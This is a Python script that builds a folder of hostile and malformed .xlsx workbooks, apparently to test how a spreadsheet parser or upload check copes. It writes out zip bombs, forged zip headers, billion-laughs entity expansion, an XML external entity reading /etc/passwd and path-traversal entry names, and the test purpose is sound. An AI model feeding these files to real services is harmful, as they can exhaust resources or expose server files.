#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Makes workbooks that attack their reader, and some that only look as if they did: xlsx_attacks.py FOLDER."""
import io
import random
import struct
import sys
import zipfile
from pathlib import Path

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ROW = '<row><c t="inlineStr"><is><t>Firma</t></is></c></row>'


def sheet(rows: str, before: str = "") -> str:
    return f'{before}<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'


def styles(inside: str) -> str:
    return f'<styleSheet xmlns="{MAIN}">{inside}</styleSheet>'


def book(sheets: str = '<sheet name="Kunden" sheetId="1" r:id="rId1"/>', before: str = "") -> str:
    return f'{before}<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets>{sheets}</sheets></workbook>'


def parts(**others) -> dict:
    """The parts of a workbook; an argument replaces one of them."""
    out = {
        "types": ("[Content_Types].xml", '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
                  'officedocument.spreadsheetml.sheet.main+xml"/></Types>'),
        "rels": ("_rels/.rels", f'<Relationships><Relationship Id="a" Type="{RELATIONS}/officeDocument" Target="xl/workbook.xml"/>'
                 "</Relationships>"),
        "book": ("xl/workbook.xml", book()),
        "bookrels": ("xl/_rels/workbook.xml.rels", "<Relationships>" + "".join(
            f'<Relationship Id="rId{i}" Type="{RELATIONS}/{kind}" Target="{kind}.xml"/>'
            for i, kind in enumerate(["worksheet", "sharedStrings", "styles"], 1)) + "</Relationships>"),
        "sheet": ("xl/worksheet.xml", sheet(ROW)),
    }
    if "strings" in others:
        out["strings"] = ("xl/sharedStrings.xml", others.pop("strings"))
    if "styles" in others:
        out["styles"] = ("xl/styles.xml", others.pop("styles"))
    for name, content in others.items():
        out[name] = (out[name][0], content)
    return dict(out.values())


def pack(contents: dict, more=(), packing=zipfile.ZIP_DEFLATED) -> bytearray:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as archive:
        for name, content in [*contents.items(), *more]:
            archive.writestr(name, content, zipfile.ZIP_STORED if content is NOISE else packing)
    return bytearray(out.getvalue())


def entry(packed: bytearray, name: str) -> tuple[int, int]:
    """Where a part's central and local headers are."""
    at = packed.rindex(b"PK\x05\x06")
    at = struct.unpack_from("<I", packed, at + 16)[0]
    while packed[at + 46:at + 46 + struct.unpack_from("<H", packed, at + 28)[0]] != name.encode():
        at += 46 + sum(struct.unpack_from("<HHH", packed, at + 28))
    return at, struct.unpack_from("<I", packed, at + 42)[0]


NOISE = random.Random(1).randbytes(8 << 20)


def lying(field: int, local_field: int, form: str, value, more=(), names=("xl/worksheet.xml",)) -> bytearray:
    """A workbook whose headers say something else of parts; value may be a function of what they said."""
    packed = pack(parts(sheet=sheet(ROW * 1000)), more)
    for name in names:
        central, local = entry(packed, name)
        for at in (central + field, local + local_field) if local_field >= 0 else (central + field,):
            struct.pack_into(form, packed, at, value(struct.unpack_from(form, packed, at)[0]) if callable(value) else value)
    return packed


def overlapping() -> bytearray:
    """Two entries of the directory for the same bytes."""
    packed = pack(parts(), [("xl/another12.xml", "x" * 200)])
    other, _ = entry(packed, "xl/another12.xml")
    sheet_at, _ = entry(packed, "xl/worksheet.xml")
    packed[other:other + 46 + 16] = packed[sheet_at:sheet_at + 46 + 16]
    return packed


class Stream(io.BytesIO):
    """Can't be gone back in: sizes come behind the parts."""

    def seekable(self):
        return False

    def seek(self, *_):
        raise OSError

    def tell(self):
        raise OSError


def streamed() -> bytes:
    out = Stream()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts().items():
            with archive.open(name, "w", force_zip64=True) as part:
                part.write(content.encode())
    return out.getvalue()


def compound(*names: str) -> bytes:
    head = bytearray(512)
    head[:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    head[30] = 9
    return bytes(head) + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", *names))


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(10)) + "]>")
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def text_row(text: str, count: int = 1) -> str:
    return "<row>" + f'<c t="inlineStr"><is><t>{text}</t></is></c>' * count + "</row>"


def attacks() -> dict:
    letters = "".join(chr(97 + i * i % 26) + chr(97 + i * 7 % 25) for i in range(16384))
    return {
        "good": pack(parts()),
        "streamed": streamed(),
        "utf16": pack(parts(sheet='<?xml version="1.0" encoding="UTF-16"?>'.encode("utf-16") + sheet(ROW).encode("utf-16-le"))),
        "prefixed": b"#!/bin/sh\n" * 100 + pack(parts()),
        "longest": pack(parts(sheet=sheet(text_row("x" * 32767)))),
        "many_texts": pack(parts(strings="<sst>" + "".join(f"<si><t>{i * 7919 % 1000003:x}</t></si>" for i in range(2000000)) + "</sst>")),
        "bomb": pack(parts(sheet=sheet(ROW + " " * (100 << 20)))),
        "strings_bomb": pack(parts(strings="<sst>" + "<si/>" * (20 << 20) + "</sst>")),
        "bomb_beside": pack(parts(sheet=sheet(ROW + " " * (100 << 20))), [("xl/media/image1.png", NOISE)]),
        "small_bombs": pack(parts(), [(f"xl/media/{i}", " " * (8 << 20)) for i in range(3)]),
        "promised": lying(24, 22, "<I", 0x50000000, [("xl/media/image1.png", NOISE)]),
        "promised_together": lying(24, 22, "<I", 0x3fffffff, [("xl/media/1", NOISE), ("xl/media/2", "x")],
                                   ("xl/worksheet.xml", "xl/media/1", "xl/media/2")),
        "promised_packed": lying(20, 18, "<I", 0x7fffffff),
        "shorter": lying(24, 22, "<I", lambda size: size - 5000),
        "longer": lying(24, 22, "<I", lambda size: size + 5000),
        "checksum": lying(16, 14, "<I", lambda sum: sum ^ 1),
        "encrypted": lying(8, 6, "<H", lambda flags: flags | 1),
        "method": lying(10, 8, "<H", 14),
        "place": lying(42, -1, "<I", 3),
        "overlap": overlapping(),
        "twice": pack(parts(), [("XL/Worksheet.xml", sheet(ROW))]),
        "up": pack(parts(), [("xl/../../etc/passwd", "x")]),
        "absolute": pack(parts(), [("/etc/passwd", "x")]),
        "long_name": pack(parts(), [("x" * 1000, "x")]),
        "many_read": pack(parts(), [(f"x{i}", "") for i in range(9995)]),
        "many": pack(parts(), [(f"x{i}", "") for i in range(10000)]),
        "half": pack(parts())[:700],
        "end": pack(parts())[:-30],
        "laughs": pack(parts(sheet=sheet("<row><c><v>&k;</v></c></row>", LAUGHS))),
        "strings_laughs": pack(parts(strings=LAUGHS + "<sst><si><t>&k;</t></si></sst>")),
        "book_laughs": pack(parts(book=book(before=LAUGHS))),
        "outside": pack(parts(sheet=sheet("<row><c><v>&a;</v></c></row>", OUTSIDE))),
        "deep": pack(parts(sheet=sheet("<x>" * 100000 + "</x>" * 100000))),
        "deep_book": pack(parts(book=book("<x>" * 100000 + "</x>" * 100000))),
        "attributes": pack(parts(sheet=sheet("<row " + " ".join(f'a{i}="{i}"' for i in range(20000)) + "/>"))),
        "names": pack(parts(sheet=sheet(f'{ROW}<{"x" * 256} {"a" * 256}="1"/>'))),
        "element_name": pack(parts(sheet=sheet(f'<{"x" * 257}/>'))),
        "prefixed_name": pack(parts(sheet=sheet(f'<{"x" * 300}:a/>'))),
        "attribute_name": pack(parts(sheet=sheet(f'<row {"a" * 257}="1"/>'))),
        "long_tag": pack(parts(sheet=sheet(f'<row a="{letters * 150}"/>'))),
        "long_comment": pack(parts(sheet=sheet(f"<!--{letters * 150}-->"))),
        "open_tag": pack(parts(sheet=sheet("<row " + letters * 400))),
        "broken": pack(parts(sheet=sheet("<row><c></row>"))),
        "cut_xml": pack(parts(sheet=sheet(ROW)[:-20])),
        "nonsense": pack(parts(sheet=bytes(range(256)) * 4)),
        "text": pack(parts(sheet=sheet(text_row("x" * 32768)))),
        "huge_text": pack(parts(sheet=sheet(text_row(letters * 200)))),
        "shared_text": pack(parts(strings="<sst><si><t>" + "x" * 32768 + "</t></si></sst>")),
        "huge_shared_text": pack(parts(strings="<sst><si><t>" + letters * 200 + "</t></si></sst>")),
        "row": pack(parts(sheet=sheet(text_row(letters[:8000], 1100)))),
        "columns": pack(parts(sheet=sheet("<row>" + "<c/>" * 16385 + "</row>"))),
        "rows": pack(parts(sheet=sheet("<row/>" * 1048577))),
        "all_rows": pack(parts(sheet=sheet("".join(f'<row r="{i}"><c r="A{i}" s="1"/></row>' for i in range(1, 1048576)) + ROW))),
        "decorated": pack(parts(strings=f"<sst><si><t>{letters[:32767]}</t></si></sst>", sheet=sheet(
            ("<row>" + '<c t="s" s="0"><v>0</v></c>' * 250 + "</row>") * 140), styles=styles(
                '<numFmts><numFmt numFmtId="164" formatCode="(@)"/></numFmts><cellXfs><xf numFmtId="164"/></cellXfs>'))),
        "most_styles": pack(parts(styles=styles("<numFmts>" + "".join(
            f'<numFmt numFmtId="{164 + i}" formatCode="0"/>' for i in range(4096)) + "</numFmts><cellXfs>"
            + '<xf numFmtId="4259"/>' * 65536 + "</cellXfs>"))),
        "styles": pack(parts(styles=styles("<cellXfs>" + '<xf numFmtId="0"/>' * 65537 + "</cellXfs>"))),
        "formats": pack(parts(styles=styles("<numFmts>" + "".join(f'<numFmt numFmtId="{i}" formatCode="0"/>' for i in range(5000))
                                            + "</numFmts>"))),
        "format": pack(parts(styles=styles(f'<numFmts><numFmt numFmtId="164" formatCode="{"0" * 1025}"/></numFmts>'))),
        "sheets": pack(parts(book=book("".join(f'<sheet name="s{i}" r:id="rId1"/>' for i in range(10001))))),
        "one_part": pack(parts(book=book("".join(f'<sheet name="s{i}" r:id="rId1"/>' for i in range(2))))),
        "one_part_twice": pack(parts(book=book('<sheet name="a" r:id="a"/><sheet name="b" r:id="b"/>'), bookrels="<Relationships>" + "".join(
            f'<Relationship Id="{i}" Type="{RELATIONS}/worksheet" Target="worksheet.xml"/>' for i in "ab") + "</Relationships>")),
        "relations": pack(parts(book=book("".join(f'<sheet name="s{i}" r:id="rId{i}"/>' for i in range(1, 10001))), bookrels=(
            f'<Relationships><Relationship Id="rId1" Type="{RELATIONS}/worksheet" Target="worksheet.xml"/>'
            + f'<Relationship Id="rId0" Type="{RELATIONS}/worksheet" Target="a"/>' * 130000 + "</Relationships>"))),
        "sheet_name": pack(parts(book=book(f'<sheet name="{"x" * 256}" r:id="rId1"/>'))),
        "no_types": pack({name: content for name, content in parts().items() if name[0] != "["}),
        "no_rels": pack({name: content for name, content in parts().items() if name != "_rels/.rels"}),
        "no_sheet": pack({name: content for name, content in parts().items() if name != "xl/worksheet.xml"}),
        "word": pack(parts(types='<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
                           'officedocument.wordprocessingml.document.main+xml"/></Types>')),
        "binary": pack(parts(types='<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.binary.'
                             'macroEnabled.main"/></Types>')),
        "opendocument": pack({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}, packing=zipfile.ZIP_STORED),
        "password": compound("EncryptionInfo", "EncryptedPackage"),
        "old": compound("Workbook"),
        "other": compound("WordDocument"),
        "html": b"<html><table><tr><td>1</td></tr></table></html>",
        "csv": b"a;b;c\n1;2;3\n",
        "empty": b"",
    }


def main() -> None:
    for name, content in attacks().items():
        Path(sys.argv[1], name + ".xlsx").write_bytes(content)


main()
